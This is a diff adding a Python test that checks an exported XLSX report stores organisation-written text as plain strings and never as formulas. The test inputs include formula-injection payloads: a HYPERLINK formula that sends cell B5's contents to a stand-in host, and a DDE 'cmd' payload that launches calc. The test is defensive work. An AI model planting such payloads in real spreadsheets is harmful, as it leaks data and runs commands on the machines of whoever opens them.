@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import re
+import zipfile
 from datetime import UTC, datetime
 from decimal import Decimal
 from pathlib import Path
@@ -168,3 +169,37 @@ async def test_a_submitted_reports_file_never_changes(reported):
         await records.delete(ctx, report_id=submitted.id)
     _, path = await records.file_of(ctx, report_id=submitted.id)
     assert Path(path).read_bytes() == sent
+
+
+INJECTED = '=HYPERLINK("http://example.invalid/?"&B5,"Se vedlegg")'
+
+
+async def test_text_an_organisation_wrote_is_text_in_the_workbook_never_a_formula(app, settings):
+    """openpyxl writes a str starting with '=' as a formula: an organisation's name, a text
+    value or an explanation would be live in the workbook Bufdir's case officers open. Each is
+    a text cell, shown exactly as written (no apostrophe), and the workbook has no formula."""
+    from bufdir_reporting.resolvers.snapshots import notes
+
+    org = await make_organization(name=INJECTED)
+    period = await make_period(year=2024)
+    texts = [FieldSpec(f"tekst_{n}", None, False, "text", label=f"Tekst {n}") for n in range(4)]
+    await make_section(fields=texts)
+    ctx = context_for(settings, app, org.id, subject="kari.nordmann")
+    snapshot = (await snapshots.trigger(ctx, organization_id=org.id, period_id=period.id, wait=True)).snapshot
+    written = [INJECTED, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "#N/A"]
+    for spec, text in zip(texts, written, strict=True):
+        await manual_values.set_value(ctx, snapshot_id=snapshot.id, field_key=spec.key, value=text)
+    await notes.explain(ctx, snapshot_id=snapshot.id, field_key="tekst_0", text="=1+1")
+    _, data = await _file(ctx, snapshot, ReportFormat.XLSX)
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets), "no cell is a formula"
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    front, section = workbook.worksheets
+    facts = {row[0].value: row[1] for row in front.iter_rows(min_row=3) if row[0].value}
+    organisation = next(cell for label, cell in facts.items() if "rganisasjon" in str(label))
+    assert (organisation.value, organisation.data_type) == (INJECTED, "s")
+    values = [section.cell(line, 2) for line in range(4, 8)]
+    assert [(cell.value, cell.data_type) for cell in values] == [(text, "s") for text in written]
+    assert section.cell(4, 7).value.startswith("Forklaring: =1+1")
